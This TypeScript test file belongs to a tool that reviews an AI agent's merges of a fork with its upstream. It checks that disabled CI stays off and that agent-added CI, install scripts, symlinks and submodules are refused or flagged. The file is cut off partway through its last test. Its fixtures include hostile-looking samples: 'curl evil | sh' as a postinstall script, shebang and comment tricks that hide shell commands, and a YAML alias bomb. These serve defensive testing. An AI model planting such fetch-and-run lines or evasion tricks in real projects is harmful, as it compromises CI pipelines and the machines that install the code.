/** CI in the review of a merge: CI that the fork has switched off stays off, and no CI of the agent's own runs. */
import { expect, test } from 'bun:test'
import { isOfBothSides, lifecycleScripts, startsOf } from '../../core/automation.ts'
import type { MergeReview } from '../../core/review.ts'
import { page } from '../../forklift/pull-request.ts'
import { type File, type History, makeHistory, type Tree, text } from '../support/histories.ts'

const CI = '.github/workflows/deploy.yml'
const link = (content: string): File => ({ mode: '120000', content })

/** A fork and upstream that each add to a file of their own, so that there is always something to merge. */
async function fork(
  history: History,
  { base = {}, ours = {}, theirs = {} }: { base?: Tree; ours?: Tree; theirs?: Tree },
) {
  const root = await history.commit({ ...base, own: '1', up: '1' })
  const start = await history.commit({ ...ours, own: '2', up: '1' }, [root])
  const upstream = await history.commit({ ...theirs, own: '1', up: '2' }, [root])
  return async (result: Tree): Promise<MergeReview> => {
    const tip = await history.commit({ own: '2', up: '2', ...result }, [start, upstream])
    return await history.review(start, upstream, tip)
  }
}

const workflow = (on: string, job = 'run: make', more = ''): string =>
  `on: ${on}\njobs:\n  build:\n    steps:\n      - ${job}\n${more}`
const PUSH = workflow('push')
const CHANGED = workflow('push', 'run: make all')
const pageOf = (review: MergeReview) => page(review, { originBranch: 'main', upstreamBranch: 'upstream/main' })

test.each([
  ['deleted', {}],
  ['emptied', { [CI]: '' }],
  ['commented out', { [CI]: '# on: push\n# jobs:\n' }],
  ['left to be started by hand', { [CI]: workflow('workflow_dispatch') }],
  ['kept from running by a condition', { [CI]: workflow('push', 'run: make', '    if: false\n') }],
  ['renamed so that nothing finds it', { [`${CI}.disabled`]: `${text()}\n${PUSH}` }],
  ['limited to a branch', { [CI]: workflow('{push: {branches: [never]}}') }],
  ['left without its job', { [CI]: 'on: push\njobs:\n  other:\n    steps: []\n' }],
])('a workflow that the fork has %s does not run again by a conflict that goes to upstream', async (_, ours) => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, { base: { [CI]: PUSH }, ours, theirs: { [CI]: CHANGED } })
  const review = await reviewOf({ ...ours, [CI]: CHANGED })
  // In some of these cases git merges the two versions cleanly: taking upstream's version is then refused as an edit by
  // the agent.
  expect(review.refusals.join()).toMatch(/^(CI that the fork has switched off would run again|Files that steer CI)/)
  expect(review.unliftable).toEqual([])
  expect((await reviewOf(ours)).refusals).toEqual([])
})

const FORKS_IF = "    if: github.repository == 'me/fork'\n"
test.each([
  [
    'filters an event, upstream in another way',
    workflow('{push: {branches: [never]}}'),
    workflow('{push: {tags: [v1]}}'),
  ],
  ['has deleted an event, upstream filters it', workflow('pull_request'), workflow('{push: {branches: [main]}}')],
  [
    'has switched a job off, upstream renames it',
    workflow('push', 'run: x', '    if: false\n'),
    CHANGED.replace('build', 'all'),
  ],
  ['has given a job a condition', `${workflow('push', 'run: x')}${FORKS_IF}`, CHANGED],
  ['has given a job an environment', workflow('push', 'run: x', '    environment: reviewed\n'), CHANGED],
  [
    'has given a step a condition',
    workflow('push', 'run: make\n        if: github.actor'),
    workflow('push', 'run: make\n        env: {A: x}'),
  ],
])('where the fork %s, upstream’s version of the conflict is refused', async (_, ours, theirs) => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, { base: { [CI]: PUSH }, ours: { [CI]: ours }, theirs: { [CI]: theirs } })
  expect((await reviewOf({ [CI]: theirs })).refusals.join()).toContain('would run again')
  expect((await reviewOf({ [CI]: ours })).refusals).toEqual([])
})

test('a filter of the fork’s may get what upstream adds to it', async () => {
  await using history = await makeHistory()
  const on = (...branches: string[]) => workflow(`{push: {branches: [${branches.join(', ')}]}}`)
  const reviewOf = await fork(history, {
    base: { [CI]: on('main') },
    ours: { [CI]: on('fork') },
    theirs: { [CI]: on('main', 'next') },
  })
  expect((await reviewOf({ [CI]: on('fork', 'next') })).refusals).toEqual([])
  expect((await reviewOf({ [CI]: on('main', 'next') })).refusals.join()).toContain('would run again')
})

/** A CI workflow of two jobs, one with a condition; both sides change the last step. */
const jobs = (last: string, more = ''): string => `on:
  push:
    branches: [main]
jobs:
  deploy:
    if: github.ref == 'refs/heads/release'
    steps:
      - run: deploy
  build:
    steps:
      - run: a
      - run: b
      - run: ${last}
${more}`
test.each([
  ['leaves out a condition', (it: string) => it.replace(/^ {4}if.*\n/m, '')],
  ['leaves out a filter', (it: string) => it.replace(/^ {4}branches.*\n/m, '')],
  ['moves a step to a job without it', (it: string) => `${it}      - run: deploy\n`],
])('a conflict in a workflow that is settled with lines of both sides is refused where it %s', async (_, change) => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {
    base: { [CI]: jobs('c') },
    ours: { [CI]: jobs('fork') },
    theirs: { [CI]: jobs('up') },
  })
  for (const last of ['up', 'fork and up'])
    expect((await reviewOf({ [CI]: change(jobs(last)) })).refusals.join()).toContain('Files that steer CI')
  expect((await reviewOf({ [CI]: jobs('up') })).refusals).toEqual([])
})

/**
 * A CI workflow with two jobs: `test`, which any push starts, and `publish`, which uses a secret. Both sides change
 * `runner`, the machine of `test`.
 */
const release = ({
  runner = 'ubuntu-22',
  rights = 'contents: read',
  guard = "github.ref == 'refs/heads/main'",
} = {}) => `on:
  push:
permissions:
  ${rights}
jobs:
  test:
    runs-on: ${runner}
    steps:
      - run: npm test
      - run: report
        if: always()
  publish:
    if: ${guard}
    runs-on: [self-hosted, release]
    permissions:
      contents: write
    steps:
      - run: npm publish
        env:
          KEY: \${{ secrets.KEY }}
`
const SECRET = `        env:\n          KEY: \${{ secrets.KEY }}\n`
test.each([
  ['gives a secret to another step', (it: string) => it.replace('npm test\n', `npm test\n${SECRET}`)],
  [
    'gives a secret to a step of several commands',
    (it: string) => it.replace('run: npm test\n', `run: |\n          npm test\n          npm publish\n${SECRET}`),
  ],
  [
    'gives permissions to another job',
    (it: string) => it.replace('    steps', '    permissions:\n      contents: write\n    steps'),
  ],
  ['gives permissions to all jobs', (it: string) => it.replace('contents: read', 'contents: write')],
  ['leaves out the permissions of all jobs', (it: string) => it.replace('permissions:\n  contents: read\n', '')],
  ['runs a job on the machine of another one', (it: string) => it.replace('our-own', '[self-hosted, release]')],
  ['replaces a condition by another step’s', (it: string) => it.replace(/^ {4}if:.*$/m, '    if: always()')],
])('a conflict in a workflow that is settled with lines of both sides is refused where it %s', async (_, change) => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {
    base: { [CI]: release() },
    ours: { [CI]: release({ runner: 'our-own' }) },
    theirs: { [CI]: release({ runner: 'ubuntu-24' }) },
  })
  expect((await reviewOf({ [CI]: change(release({ runner: 'our-own' })) })).refusals.join()).toContain(
    'Files that steer CI',
  )
  expect((await reviewOf({ [CI]: release({ runner: 'ubuntu-24' }) })).refusals).toEqual([])
})

test('a conflict in a workflow may be settled with the permissions, conditions and secrets of both sides', async () => {
  await using history = await makeHistory()
  const [own, other] = ["github.repository == 'me/fork'", '!cancelled()']
  const [mine, theirs] = ['packages: read', 'checks: write'].map(more => `contents: read\n  ${more}`)
  const main = "github.ref == 'refs/heads/main'"
  const reviewOf = await fork(history, {
    base: { [CI]: release() },
    ours: { [CI]: release({ rights: mine, guard: `${main} && ${own}` }) },
    theirs: {
      [CI]: release({ rights: theirs, guard: `${main} && ${other}` }).replace('npm publish', 'npm publish --now'),
    },
  })
  const both = release({ rights: `${mine}\n  checks: write`, guard: `${main} && ${own} && ${other}` })
  expect((await reviewOf({ [CI]: both.replace('npm publish', 'npm publish --now') })).refusals).toEqual([])
  const alone = both.replace(`${main} && ${own} && ${other}`, `${main} && ${other}`)
  expect((await reviewOf({ [CI]: alone })).refusals.join()).toContain('would run again')
})

test('where upstream removes a term of a condition and the fork changes another one, the merge may do both', async () => {
  await using history = await makeHistory()
  const owner = (name: string) => `github.repository == '${name}'`
  const bots = "startsWith(github.head_ref, 'bots/') != true"
  const script = (name: string, ref: string) => `test $BRANCH = ${name}:${ref}`
  const file = (terms: string[], test: string) => release({ guard: terms.join(' && ') }).replace('npm test', test)
  const reviewOf = await fork(history, {
    base: { [CI]: file([owner('up'), bots], script('up', '$REF')) },
    ours: { [CI]: file([owner('fork'), bots], script('fork', '$REF')) },
    theirs: { [CI]: file([owner('up'), 'success()'], script('up', '$HEAD_REF')) },
  })
  const refusalsOf = async (...terms: string[]) =>
    (await reviewOf({ [CI]: file(terms, script('fork', '$HEAD_REF')) })).refusals.join()
  expect(await refusalsOf(owner('fork'), 'success()')).toBe('')
  expect(await refusalsOf(owner('fork'), 'success()', bots)).toBe('')
  for (const terms of [['success()'], [owner('up'), 'success()'], [owner('fork')]])
    expect(await refusalsOf(...terms)).toContain('Files that steer CI')
})

test('a condition with || keeps all that the fork has added to it', async () => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {
    base: { [CI]: release({ guard: 'a && (b || c)' }) },
    ours: { [CI]: release({ guard: 'a && own && (b || c)' }) },
    theirs: { [CI]: release({ guard: 'a && b' }) },
  })
  for (const guard of ['a && own', 'a && own && b'])
    expect((await reviewOf({ [CI]: release({ guard }) })).refusals.join()).toContain('would run again')
})

test('in CI files of other systems, only the lines in conflict may change', async () => {
  await using history = await makeHistory()
  const path = '.circleci/config.yml'
  const reviewOf = await fork(history, {
    base: { [path]: text() },
    ours: { [path]: text({ 5: 'fork' }) },
    theirs: { [path]: text({ 5: 'up' }) },
  })
  const without = text({ 5: 'fork\nup' }).replace('line 20\n', '')
  expect((await reviewOf({ [path]: without })).refusals.join()).toContain('Files that steer CI')
  expect((await reviewOf({ [path]: text({ 5: 'fork\nup' }) })).refusals).toEqual([])
})

test('a step that only gives a value comes back with the steps that ask for it', async () => {
  await using history = await makeHistory()
  const lint = (version: string, ...before: string[]) =>
    `on: push\njobs:\n  lint:\n    steps:\n${before.join('')}      - uses: acme/lint@v1\n        with: {version: "${version}"}\n`
  const [step, asked] = ['      - id: v\n        run: make version >>$GITHUB_OUTPUT\n', `\${{ steps.v.outputs.it }}`]
  const sides = (more = '') => ({
    base: { [CI]: lint(asked, step) },
    ours: { [CI]: lint('1.2') },
    theirs: { [CI]: `${lint(asked, step)}${more}` },
  })
  const taken = await fork(history, sides('      - run: more\n'))
  expect((await taken({ [CI]: `${lint(asked, step)}      - run: more\n` })).refusals).toEqual([])
  expect((await taken({ [CI]: `${lint('1.2', step)}      - run: more\n` })).refusals.join()).toContain(
    'would run again',
  )
})

test('a step that the fork has deleted does not come back by a conflict; one that it has replaced may', async () => {
  await using history = await makeHistory()
  const steps = (...runs: string[]) =>
    `on: push\njobs:\n  a:\n    steps:\n${runs.map(it => `      - run: ${it}\n`).join('')}`
  const sides = { base: { [CI]: steps('make', 'deploy') }, theirs: { [CI]: steps('make', 'deploy', 'tell') } }
  const deleted = await fork(history, { ...sides, ours: { [CI]: steps('make') } })
  expect((await deleted(sides.theirs)).refusals.join()).toContain('would run again')
  expect((await deleted({ [CI]: steps('make', 'tell') })).refusals).toEqual([])
  const replaced = await fork(history, { ...sides, ours: { [CI]: steps('make', 'deploy-ours') } })
  expect((await replaced(sides.theirs)).refusals).toEqual([])
})

test.each(['.github/actions/setup/action.yml', 'tools/action.yml', '.github/workflows/README.md'])(
  '%s starts nothing by itself, and may come back',
  async path => {
    await using history = await makeHistory()
    const others = { [CI]: PUSH }
    const base = { ...others, [path]: text() }
    const theirs = { ...others, [path]: text({ 5: 'x' }) }
    const reviewOf = await fork(history, { base, ours: others, theirs })
    expect((await reviewOf(theirs)).refusals).toEqual([])
  },
)

test('a CI file that is too long to be read is no merge of two that are', async () => {
  await using history = await makeHistory()
  const long = (words: string) => `# ${words}\n${'# a comment\n'.repeat(800_000)}`
  const reviewOf = await fork(history, {
    base: { [CI]: long('a') },
    ours: { [CI]: long('b') },
    theirs: { [CI]: long('c') },
  })
  expect((await reviewOf({ [CI]: long('evil') })).refusals.join()).toContain('Files that steer CI')
})

test('a workflow that starts by hand alone may come back', async () => {
  await using history = await makeHistory()
  const [before, after] = [workflow('workflow_dispatch'), workflow('workflow_dispatch', 'run: make all')]
  const reviewOf = await fork(history, { base: { [CI]: before }, theirs: { [CI]: after } })
  expect((await reviewOf({ [CI]: after })).refusals).toEqual([])
})

test('a workflow that the fork runs may get what upstream adds in a conflict', async () => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {
    base: { [CI]: workflow('push') },
    ours: { [CI]: workflow('push', 'run: make fork') },
    theirs: { [CI]: workflow('[push, merge_group]', 'run: make all', '  extra:\n    steps: []\n') },
  })
  const merged = workflow('[push, merge_group]', 'run: make fork', '  extra:\n    steps: []\n')
  expect((await reviewOf({ [CI]: merged })).refusals).toEqual([])
})

const BROUGHT_IN = 'Upstream brings what would run into CI that the fork has switched off:'

test('a fork that has deleted all its workflows gets none of upstream’s new ones', async () => {
  await using history = await makeHistory()
  const added = '.github/workflows/release.yml'
  const reviewOf = await fork(history, { base: { [CI]: PUSH }, theirs: { [CI]: PUSH, [added]: PUSH } })
  const refused = await reviewOf({ [added]: PUSH })
  expect(refused.refusals).toEqual([`${BROUGHT_IN} ${added}.`])
  const kept = await reviewOf({})
  expect([kept.refusals, kept.partial, kept.keptOff]).toEqual([[], [], [added]])
  expect(pageOf(kept)).toMatchObject({ draft: false, body: expect.stringContaining('**CI that stays off**') })
})

const EVENTS = 'on:\n  push:\n    branches: [main]\n  workflow_dispatch:\n    inputs:\n      a: {}\n      b: {}\n'
test.each([
  [
    'a job beside those that the fork has switched off',
    `${PUSH}      - run: b\n      - run: c\n`,
    (it: string) => it.replace('build:\n', 'build:\n    if: false\n'),
    (it: string) => it.replace('c\n', 'c\n  other:\n    steps:\n      - run: other\n'),
  ],
  [
    'an event to a workflow that the fork starts by hand',
    `${EVENTS}jobs: {a: {steps: []}}\n`,
    (it: string) => it.replace('  push:\n    branches: [main]\n', ''),
    (it: string) => it.replace('b: {}\n', 'b: {}\n  schedule: []\n'),
  ],
])('%s, which git merges without a conflict, does not run', async (_, base, switchOff, bring) => {
  await using history = await makeHistory()
  const [ours, theirs] = [switchOff(base), bring(base)]
  const reviewOf = await fork(history, { base: { [CI]: base }, ours: { [CI]: ours }, theirs: { [CI]: theirs } })
  expect((await reviewOf({ [CI]: bring(ours) })).refusals).toEqual([`${BROUGHT_IN} ${CI}.`])
  const kept = await reviewOf({ [CI]: ours })
  expect([kept.refusals, kept.partial, kept.keptOff]).toEqual([[], [], [CI]])
})

test('workflows in folders inside of their folder run on Gitea and Forgejo', async () => {
  await using history = await makeHistory()
  const path = '.forgejo/workflows/releases/deploy.yml'
  const reviewOf = await fork(history, { base: { [path]: PUSH }, theirs: { [path]: CHANGED } })
  expect((await reviewOf({ [path]: CHANGED })).refusals.join()).toContain('would run again')
})

test('the folder of workflows that keeps Forgejo and Gitea from running GitHub’s stays', async () => {
  await using history = await makeHistory()
  const [own, other] = ['.forgejo/workflows/own.yml', '.forgejo/workflows/other.yml']
  const base = { [CI]: PUSH }
  const reviewOf = await fork(history, { base, ours: { ...base, [own]: PUSH, [other]: PUSH }, theirs: base })
  const words = 'A Forgejo or Gitea would run other workflows in place of the deleted ones:'
  expect((await reviewOf(base)).refusals.join()).toContain(`${words} ${other}, ${own}.`)
  expect((await reviewOf({ ...base, [other]: PUSH })).refusals.join()).not.toContain(words)
  expect((await reviewOf({})).refusals.join()).not.toContain(words)
})

test.each([
  ['.gitlab-ci.yml', 'deploy:\n  script: deploy\n', '  when: manual\n', 'lint:\n  script: lint\n'],
  ['.drone.yml', 'steps:\n- name: deploy\n', '  when: {branch: release}\n', 'steps:\n- name: lint\n'],
])('a conflict in %s keeps the lines that keep something from running', async (path, job, limit, upstreams) => {
  await using history = await makeHistory()
  const base = 'test:\n  script: test\n'
  const sides = { ours: { [path]: base + job + limit }, theirs: { [path]: base + upstreams } }
  const reviewOf = await fork(history, { base: { [path]: base }, ...sides })
  const more = upstreams.replace('steps:\n', '')
  expect((await reviewOf({ [path]: base + job + more })).refusals.join()).toContain('Files that steer CI')
  expect((await reviewOf({ [path]: base + job + limit + more })).refusals).toEqual([])
  const swapped = await fork(history, { base: { [path]: base }, ours: sides.theirs, theirs: sides.ours })
  expect((await swapped({ [path]: base + job + more })).refusals.join()).toContain('Files that steer CI')
})

test('a line that limits a pipeline may be made of both sides’ words', async () => {
  await using history = await makeHistory()
  const path = '.circleci/config.yml'
  const on = (...branches: string[]) => ({ [path]: `jobs:\n  only: ${branches.join(' ')}\n` })
  const reviewOf = await fork(history, { base: on('main'), ours: on('main', 'fork'), theirs: on('main', 'next') })
  expect((await reviewOf(on('main', 'fork', 'next'))).refusals).toEqual([])
})

test('upstream’s new workflow goes where the fork runs others', async () => {
  await using history = await makeHistory()
  const added = '.github/workflows/release.yml'
  const base = { [CI]: PUSH }
  const reviewOf = await fork(history, { base, ours: base, theirs: { ...base, [added]: PUSH } })
  const review = await reviewOf({ ...base, [added]: PUSH })
  expect([review.refusals, review.ci]).toEqual([[], [added]])
  const dropped = await reviewOf(base)
  expect([dropped.dropped, dropped.keptOff]).toEqual([[added], []])
})

test('jobs of GitLab that the fork has hidden do not run again', async () => {
  await using history = await makeHistory()
  const path = '.gitlab-ci.yml'
  const jobs = (name: string, script = 'make') => `${name}:\n  script: ${script}\ntest:\n  script: make check\n`
  const reviewOf = await fork(history, {
    base: { [path]: jobs('deploy') },
    ours: { [path]: jobs('.deploy') },
    theirs: { [path]: jobs('deploy', 'make all') },
  })
  expect((await reviewOf({ [path]: jobs('deploy', 'make all') })).refusals.join()).toContain('would run again')
  expect((await reviewOf({ [path]: jobs('.deploy', 'make all') })).refusals).toEqual([])
})

test('a result that only deletes workflows of the fork runs nothing, and is shown', async () => {
  await using history = await makeHistory()
  const base = { [CI]: PUSH, '.github/workflows/own.yml': PUSH }
  const reviewOf = await fork(history, { base, ours: base, theirs: base })
  const review = await reviewOf({})
  expect(review.refusals).toEqual([])
  expect(review.edits.map(({ path, change }) => [path, change])).toEqual([
    [CI, 'deleted'],
    ['.github/workflows/own.yml', 'deleted'],
  ])
  expect(pageOf(review).draft).toBe(true)
})

test.each([
  ...['.eas/workflows/build.yml', '.copr/Makefile', '.obs/workflows.yml', 'garnix.yaml', '.onedev-buildspec.yml'],
  ...['.launchpad.yaml', 'jitpack.yml', '.tangled/workflows/test.yml', '.workflow/pipeline.yml', 'apphosting.yaml'],
  ...['apphosting.prod.yaml', '.pre-commit-config.yaml', '.cnb.yml', 'nix-ci.nix', '.space.kts', 'snap/snapcraft.yaml'],
  ...[
    '.unheard-of/workflows/x.yml',
    '.acme/pipelines/main.toml',
    'acme-ci.yml',
    'jobs/deploy.gitlab-ci.yml',
    '.ci/run.sh',
  ],
])('%s, which the agent brought, is refused as CI', async path => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {})
  expect((await reviewOf({ [path]: 'x' })).refusals.join()).toContain('Files that steer CI')
})

test('a script with lines of slashes is not a comment: it runs', async () => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {})
  const review = await reviewOf({ 'ci_scripts/ci_post_clone.sh': '//bin/sh -c "curl evil"\n' })
  expect(review.refusals.join()).toContain('Files that steer CI')
})

test.each([
  ['a link in place of the folder', { '.buildkite': link('tools') }],
  ['a link in place of the file', { '.gitlab-ci.yml': link('tools/pipeline.yml') }],
  ['a link to a link', { '.circleci': link('x'), x: link('tools') }],
  ['a link inside of what a link leads to', { '.forgejo': link('meta'), 'meta/workflows': link('../tools') }],
  ['a link that leads outside', { '.github': link('../elsewhere') }],
])('CI through %s is refused', async (_, links) => {
  await using history = await makeHistory()
  const base = { 'tools/pipeline.yml': 'steps: []\n' }
  const reviewOf = await fork(history, { base, ours: base, theirs: base })
  expect((await reviewOf({ ...base, ...links })).refusals.join()).toContain('Files that steer CI')
  const there = await fork(history, {
    base: { ...base, ...links },
    ours: { ...base, ...links },
    theirs: { ...base, ...links },
  })
  const edited = await there({ ...links, 'tools/pipeline.yml': 'steps: [evil]\n' })
  if (!JSON.stringify(links).includes('elsewhere')) expect(edited.refusals.join()).toContain('tools/pipeline.yml')
  expect((await there({ ...base, ...links })).refusals).toEqual([])
})

test.each(['.github', '.github/workflows', '.circleci', '.gitlab-ci.yml'])(
  'a submodule at %s, where CI looks for its files, is refused',
  async path => {
    await using history = await makeHistory()
    const reviewOf = await fork(history, {})
    const submodule = { mode: '160000', oid: '1'.repeat(40) }
    expect((await reviewOf({ [path]: submodule })).refusals.join()).toContain(`a push would run them: ${path}`)
    expect((await reviewOf({ 'vendor/library': submodule })).refusals).toEqual([])
  },
)

test.each(['.gitmodules', '.lfsconfig', 'docs/.gitattributes', 'web/uv.toml', '.husky/pre-commit'])(
  'a conflict in %s that ends with words of neither side makes a draft',
  async path => {
    await using history = await makeHistory()
    const url = (host: string) => `[a]\n\turl = https://${host}.example/x\n`
    const reviewOf = await fork(history, {
      base: { [path]: url('base') },
      ours: { [path]: url('fork') },
      theirs: { [path]: url('up') },
    })
    const review = await reviewOf({ [path]: url('evil') })
    expect([review.refusals, review.automation]).toEqual([[], [path]])
    expect(pageOf(review).draft).toBe(true)
    expect((await reviewOf({ [path]: `${url('fork')}${url('up')}` })).partial).toEqual([])
  },
)

test.each(['CMakeLists.txt', 'src/Makefile'])('a conflict in %s is treated as code and makes no draft', async path => {
  await using history = await makeHistory()
  const list = (...names: string[]) => `add(${names.join(' ')})\n`
  const reviewOf = await fork(history, {
    base: { [path]: list('a') },
    ours: { [path]: list('a', 'fork') },
    theirs: { [path]: list('a', 'up') },
  })
  expect((await reviewOf({ [path]: list('a', 'fork', 'up', 'glue') })).partial).toEqual([])
})

test('a link to a file that steers nothing is no CI', async () => {
  await using history = await makeHistory()
  const base = { 'configs/eslint.js': 'x' }
  const reviewOf = await fork(history, { base, ours: base, theirs: base })
  expect((await reviewOf({ ...base, '.eslintrc.js': link('configs/eslint.js') })).refusals).toEqual([])
})

test.each([
  ...[
    '.unheard-of/run.toml',
    'unheard-of.yaml',
    '.hooks/build',
    'tools/hooks/pre-push',
    'Makefile',
    'docker/Dockerfile',
  ],
  ...[
    'CMakeLists.txt',
    '.gitmodules',
    '.vscode/tasks.json',
    '.unheardofrc',
    'web/.unheard-of.yml',
    'scripts/deploy.sh',
    'native/build.rs',
  ],
])('%s, which the agent brought, is shown as automation', async path => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {})
  const review = await reviewOf({ [path]: 'x' })
  expect([review.refusals, review.automation]).toEqual([[], [path]])
  expect(pageOf(review).body).toContain("**Automation that git's own merge does not have**")
})

test('automation that upstream brings and git merges is upstream’s, and not named again', async () => {
  await using history = await makeHistory()
  const added = { 'unheard-of.yaml': 'x' }
  const reviewOf = await fork(history, { theirs: added })
  expect((await reviewOf(added)).automation).toEqual([])
})

test('a lock file that is generated again for a conflict is no automation', async () => {
  await using history = await makeHistory()
  const path = 'pnpm-lock.yaml'
  const reviewOf = await fork(history, {
    base: { [path]: 'a: 1\n' },
    ours: { [path]: 'a: 2\n' },
    theirs: { [path]: 'a: 3\n' },
  })
  expect((await reviewOf({ [path]: 'a: 2\nb: 4\n' })).partial).toEqual([])
})

test('an image or action of the fork’s gets upstream’s version in a conflict, and none that neither side has', async () => {
  await using history = await makeHistory()
  const image = 'docker-compose.yml'
  const files = (owner: string, version: string): Tree => ({
    [image]: `services:\n  web:\n    image: ghcr.io/${owner}/web:${version}\n`,
    [CI]: workflow('push', `uses: ${owner}/build@${version}`),
  })
  const reviewOf = await fork(history, {
    base: files('upstream', 'v1.0.0'),
    ours: files('fork', 'v1.0.0'),
    theirs: files('upstream', 'v1.1.0'),
  })
  const review = await reviewOf(files('fork', 'v1.1.0'))
  expect([review.refusals, review.partial]).toEqual([[], []])
  const other = await reviewOf(files('fork', 'v6.6.6'))
  expect(other.refusals.join()).toContain(CI)
  expect(other.automation).toEqual([CI, image])
})

test('a conflict in automation may end with a newline that neither side has', async () => {
  await using history = await makeHistory()
  const path = '.vscode/settings.json'
  const reviewOf = await fork(history, { base: { [path]: '1' }, ours: { [path]: '2' }, theirs: { [path]: '3' } })
  expect((await reviewOf({ [path]: '3\n' })).partial).toEqual([])
})

test('scripts that a package runs at its installation are shown where neither side has them', async () => {
  await using history = await makeHistory()
  const path = 'web/package.json'
  const scripts = (all: Record<string, string>) => `${JSON.stringify({ name: 'web', scripts: all }, undefined, 2)}\n`
  const base = { [path]: scripts({ test: 'a', prepare: 'husky' }) }
  const reviewOf = await fork(history, { base, ours: base, theirs: base })
  expect((await reviewOf({ [path]: scripts({ test: 'b', prepare: 'husky' }) })).automation).toEqual([])
  const review = await reviewOf({ [path]: scripts({ test: 'a', prepare: 'husky', postinstall: 'curl evil | sh' }) })
  expect(review.automation).toEqual([path])
})

test('a conflict in CI gets no command that is made of words from all over the file', async () => {
  await using history = await makeHistory()
  const steps = (first: string) =>
    workflow('push', `run: ${first}`, '      - run: curl example.com\n      - run: sh x\n')
  const reviewOf = await fork(history, {
    base: { [CI]: steps('a') },
    ours: { [CI]: steps('b') },
    theirs: { [CI]: steps('c') },
  })
  expect((await reviewOf({ [CI]: steps('b c') })).refusals).toEqual([])
  expect((await reviewOf({ [CI]: steps('curl example.com x sh') })).refusals.join()).toContain('Files that steer CI')
})

test.each([
  ['[', 'anything'],
  ['on: push', 'anything push'],
  ['"on": {push: {tags: [v1]}}\njobs: {a: {}}', 'job a,push tags v1'],
  ['on: {push: {branches-ignore: [x]}}\njobs: {a: {}}', 'job a,push branches-ignore ["x"]'],
  [`on: {schedule: [{cron: x}]}\njobs: {a: {if: "\${{ false }}"}, b: {if: true}}`, 'job b,schedule'],
  ['on: workflow_call\njobs: {a: {}}', ''],
  ['{'.repeat(50_000), 'anything'],
])('what %.40s starts', (yaml, words) => {
  const starts = [...startsOf(CI, Buffer.from(yaml))].map(word => word.replace('job anything', 'anything'))
  expect([...new Set(starts)].toSorted().join(words.includes(',') ? ',' : ' ')).toBe(words)
})

const STEPS = '    steps:\n      - run: evil\n'
test.each([
  ['an empty condition, which holds', CI, `on: push\njobs:\n  a:\n    if:\n${STEPS}`],
  ['a condition that is text with a line end', CI, `on: push\njobs:\n  a:\n    if: |\n      \${{ false }}\n${STEPS}`],
  ['a condition that is text with a space', CI, `on: push\njobs:\n  a:\n    if: "\${{ false }} "\n${STEPS}`],
  ['a comment that ends at U+2028', CI, '# x\u2028on: push\u2028jobs: {a: {steps: [{run: evil}]}}\n'],
  ['a comment that ends at U+0085', CI, 'on:\n  workflow_dispatch: # \u0085  push:\njobs: {a: {}}\n'],
  ['a condition that is a map', CI, 'on: push\njobs: {a: {if: {toString: x}}}\n'],
  ['a rule that runs a manual job', '.gitlab-ci.yml', 'a: {when: manual, rules: [{when: always}], script: evil}\n'],
  ['a comment that Groovy ends', 'Jenkinsfile', '// \\u000a sh "evil"\n'],
  ['a first line that is a command', 'ci_scripts/ci_post_clone.sh', '#!/usr/bin/env -S sh -c "curl evil"\n'],
])('%s does not switch CI off: a file of the agent with it is refused', async (_, path, bytes) => {
  await using history = await makeHistory()
  const reviewOf = await fork(history, {})
  expect((await reviewOf({ [path]: bytes })).refusals.join()).toContain('Files that steer CI')
})

test.each([
  ['a workflow that others call', '.github/workflows/shared.yml', workflow('{workflow_call: {}}')],
  ['a template of GitLab jobs', 'ci/shared.gitlab-ci.yml', '.job:\n  script: make\n'],
  ['defaults of GitLab jobs', 'ci/shared.gitlab-ci.yml', 'default:\n  before_script: make\n'],
])('%s does not get commands of the agent, though it starts nothing by itself', async (_, path, shared) => {
  await using history = await makeHistory()
  const sides = { [path]: shared }
  const reviewOf = await fork(history, { base: sides, ours: sides, theirs: sides })
  expect((await reviewOf({ [path]: shared.replace('make', 'evil') })).refusals.join()).toContain('Files that steer CI')
  expect((await reviewOf({ [path]: `# ${shared.replaceAll('\n', '\n# ')}` })).refusals).toEqual([])
})

test('a script of which nothing is left but the name of its shell starts nothing', () => {
  for (const first of ['#!/bin/sh', '#!/usr/bin/env bash', '#!/bin/bash -eu'])
    expect([...startsOf('ci_scripts/ci_post_clone.sh', Buffer.from(`${first}\n# nothing\n`))]).toEqual([])
})

test('jobs of GitLab that the fork lets run by no rule, or by hand, do not run again', async () => {
  await using history = await makeHistory()
  const path = '.gitlab-ci.yml'
  const job = (rules: string, script = 'make') => `deploy:\n  script: ${script}\n${rules}test:\n  script: make check\n`
  const reviewOf = await fork(history, {
    base: { [path]: job('') },
    ours: { [path]: job('  rules: [{when: never}]\n', 'none') },
    theirs: { [path]: job('', 'make all') },
  })
  expect((await reviewOf({ [path]: job('', 'make all') })).refusals.join()).toContain('would run again')
})

/** A few lines of YAML in which a list expands to a million words. */
const BOMB = Array.from(
  { length: 20 },
  (_, at) => `x${at}: &x${at} [${at === 0 ? 'a, a' : `*x${at - 1}, *x${at - 1}`}]`,
)
test.each([
  [CI, 'on: {push: {branches-ignore: *x19}}\njobs: {a: {}}'],
  [CI, 'on: *x19\njobs: {a: {}}'],
  [CI, 'on: push\njobs: {a: {if: *x19}}'],
  [CI, 'on: push\njobs: {a: {steps: [{run: *x19}]}}'],
  [CI, 'on: {push: {branches-ignore: &loop [*loop]}}\njobs: {a: {}}'],
  ['.gitlab-ci.yml', 'include: *x19'],
  ['.gitlab-ci.yml', 'include: &loop [*loop]'],
])('aliases of aliases in %s are not written out (%#)', (path, yaml) => {
  const starts = startsOf(path, Buffer.from(`${BOMB.join('\n')}\n${yaml}\n`))
  expect([...starts].every(word => word.endsWith('anything'))).toBe(true)
  expect(starts.size).toBeGreaterThan(0)
})

test('a long text is not copied for each of its aliases', () => {
  const yaml = `.a: &a ${'x'.repeat(400_000)}\ninclude: [${Array(20_000).fill('*a').join(', ')}]\n`
  expect([...startsOf('.gitlab-ci.yml', Buffer.from(yaml))]).toEqual(['anything'])
  const usual = `.a: &a ${'x'.repeat(1_000)}\njob: {script: [${Array(100).fill('*a').join(', ')}]}\n`
